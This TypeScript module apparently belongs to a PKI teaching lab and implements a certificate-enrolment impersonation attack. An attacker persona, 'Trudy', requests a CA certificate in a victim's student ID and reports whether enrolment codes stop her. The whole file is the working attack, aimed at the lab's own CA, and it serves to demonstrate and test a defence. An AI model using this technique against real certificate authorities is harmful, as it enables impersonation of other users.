/**
 * enrol-impersonation: Trudy asks the CA for a certificate carrying someone else's student ID.
 *
 * The seeds' CA signs any CSR it is sent, so whoever asks first owns the ID. With enrolment codes
 * (the default) the CA refuses a request that does not carry the victim's one-time code.
 */

import type { Verdict } from "./attack.ts";
import type { HostPort, StepLog } from "../runtime/mod.ts";
import { PeerRefusedError } from "../wire/mod.ts";
import { requestCertificate } from "../ca/mod.ts";
import { type Certificate, createCsr, der, generateRsaKeyPair } from "../pki/mod.ts";

export interface EnrolImpersonationOptions {
  ca: HostPort;
  /** The root that verifiers trust: the stolen certificate must verify against it. */
  root: Certificate;
  /** The victim's student ID. */
  victim: string;
  log: StepLog;
  /** A guess at the victim's code; Trudy has none (default empty). */
  code?: string;
}

export interface EnrolImpersonationResult extends Verdict {
  /** The certificate obtained in the victim's name, with Trudy's key. */
  cert?: Certificate;
  keys?: CryptoKeyPair;
}

export async function enrolImpersonation(
  options: EnrolImpersonationOptions,
): Promise<EnrolImpersonationResult> {
  const { log, victim } = options;
  const keys = await generateRsaKeyPair(2048);
  const csr = await createCsr(keys, victim);
  log.step(
    1,
    `Trudy made her own RSA key pair and a CSR with CN=${victim}, an ID that is not hers`,
  );
  log.step(
    1,
    `sending it to the CA at ${options.ca.hostname}:${options.ca.port} ${
      options.code ? "with a guessed code" : "with no enrolment code"
    }`,
  );
  try {
    const cert = await requestCertificate({
      ca: options.ca,
      sid: victim,
      code: options.code ?? "",
      csr: der(csr),
      publicKey: new Uint8Array(await crypto.subtle.exportKey("spki", keys.publicKey)),
      root: options.root,
    });
    log.step(
      2,
      `the CA signed cert 2 for ${victim} (serial ${cert.serialNumber}); it verifies against the root`,
    );
    return {
      succeeded: true,
      reason: "enrolled-without-code",
      detail:
        `Trudy holds a valid certificate for ${victim} and its private key: she can log in to Blackboard as ${victim}`,
      cert,
      keys,
    };
  } catch (err) {
    if (err instanceof PeerRefusedError) {
      log.step(2, `the CA refused: ${err.message}`);
      return {
        succeeded: false,
        reason: "code-required",
        detail: `the CA refused to issue a certificate for ${victim}: ${err.message}`,
      };
    }
    throw err;
  }
}
